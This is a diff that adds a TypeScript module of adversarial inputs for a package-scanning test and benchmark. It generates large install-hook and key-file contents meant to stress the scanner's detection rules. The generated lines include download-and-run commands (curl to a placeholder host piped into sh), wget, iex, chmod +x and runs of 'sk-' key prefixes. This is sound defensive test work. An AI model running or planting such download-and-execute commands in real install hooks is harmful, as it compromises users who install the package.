@@ -1,0 +1,37 @@
+/**
+ * Adversarial inputs for the package scan, shared by its linearity test and `bench/scan.ts`: each
+ * a file name and a maker of about `bytes` of content aimed at one rule — thousands of downloads
+ * each run, long nested inline calls, long lines of each rule's trigger.
+ */
+
+/** `unit` repeated between `head` and `tail`, to at most `bytes` (ASCII) in all. */
+const fill = (unit: string, bytes: number, head = '', tail = ''): string => head + unit.repeat(Math.floor((bytes - head.length - tail.length) / unit.length)) + tail;
+
+/** Numbered lines, to at most `bytes` in all. */
+function lines(line: (i: number) => string, bytes: number): string {
+  const out: string[] = [];
+  for (let i = 0, size = 0; ; i++) {
+    const text = line(i);
+    if ((size += text.length + 1) > bytes) return out.join('\n');
+    out.push(text);
+  }
+}
+
+/** One adversarial case: what it aims at, the file it is written to, and its content maker. */
+export type AdversarialCase = [what: string, file: string, make: (bytes: number) => string];
+
+/** The cases; the file is INSTALL (a hook, read line by line) or a payload file (secrets only). */
+export const ADVERSARIAL_CASES: readonly AdversarialCase[] = [
+  ['thousands of downloads, each run', 'INSTALL', (n) => lines((i) => `curl -o f${i} https://x.example/f${i} && sh f${i}`, n)],
+  ['thousands of downloads, none run', 'INSTALL', (n) => lines((i) => `wget -O f${i} https://x.example/f${i}`, n)],
+  ['nested python copies on one line', 'INSTALL', (n) => fill('shutil.copy(', n, 'python3 -c "', '"')],
+  ['nested node cp( on one line', 'INSTALL', (n) => fill('cp(', n, 'node -e "', '"')],
+  ['perl open on a long run of names', 'INSTALL', (n) => fill('open $', n, "perl -e '", "'")],
+  ['perl open before a long run of spaces', 'INSTALL', (n) => fill(' ', n, "perl -e 'open", ";'")],
+  ['curl on one line without a pipe', 'INSTALL', (n) => fill('curl ', n)],
+  ['curl, then ; and chmod +x without ./', 'INSTALL', (n) => fill('curl ; chmod +x ', n)],
+  ['iex without a download', 'INSTALL', (n) => fill('iex ', n)],
+  ['comment marks before a carriage return', 'INSTALL', (n) => fill(' #', n, 'x', '\rx')],
+  ['write commands and redirects', 'INSTALL', (n) => fill(`cp a b > "x ' `, n)],
+  ['sk- without the OpenAI marker', 'payload/keys.txt', (n) => fill('sk-', n)],
+];
